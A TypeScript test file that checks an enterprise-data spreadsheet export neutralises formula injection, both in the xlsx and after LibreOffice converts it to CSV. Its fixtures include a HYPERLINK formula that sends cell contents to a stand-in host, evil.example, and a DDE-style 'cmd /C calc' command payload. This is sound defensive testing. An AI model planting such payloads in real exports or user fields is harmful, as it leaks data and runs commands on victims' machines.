/**
 * Exported spreadsheets never carry a live formula: a user's text that begins with =, +, - or @ is written so that
 * no spreadsheet runs it — in the .xlsx and after LibreOffice re-saves it as CSV (issue 8).
 */
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildEnterprise, type TestApp, testApp } from '../testing/harness.js';
import { convertWithSoffice, sofficePath } from './soffice.js';

const NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")';
const ADDRESS = "@SUM(1+1)*cmd|' /C calc'!A0";

describe('formula injection in exports', () => {
  let t: TestApp;
  let file: Buffer;
  beforeAll(async () => {
    t = await testApp();
    const inspector = await t.as('inspector.370303');
    const created = await inspector.post(
      '/api/enterprises',
      buildEnterprise({ name: NAME, address: ADDRESS, principalPhone: '+86 533 3100000' }),
    );
    expect(created.status).toBe(201);
    const res = await t.app.inject({
      method: 'GET',
      url: `/api/enterprises/export?q=${encodeURIComponent('HYPERLINK')}`,
      headers: { cookie: inspector.cookie },
    });
    expect(res.statusCode).toBe(200);
    file = res.rawPayload;
  });
  afterAll(() => t.close());

  it('writes the text with a leading apostrophe, as a string cell, never as a formula', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(file as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((c) => cells.push(c)));
    const texts = cells.map((c) => c.value);
    expect(texts).toContain(`'${NAME}`);
    expect(texts).toContain(`'${ADDRESS}`);
    expect(texts).toContain("'+86 533 3100000");
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
    expect(texts.some((v) => typeof v === 'string' && /^[=+@]/.test(v))).toBe(false);
  });

  it.skipIf(!sofficePath())(
    'stays text after LibreOffice converts the file to CSV',
    async () => {
      const csv = (await convertWithSoffice(file, 'xlsx', 'csv:Text - txt - csv (StarCalc):44,34,76')).toString('utf8');
      const fields = csv.split(/\r?\n/).flatMap((line) => line.split(','));
      expect(csv).toContain("'=HYPERLINK");
      expect(fields.some((f) => /^"?[=+@]/.test(f))).toBe(false);
    },
    120_000,
  );
});
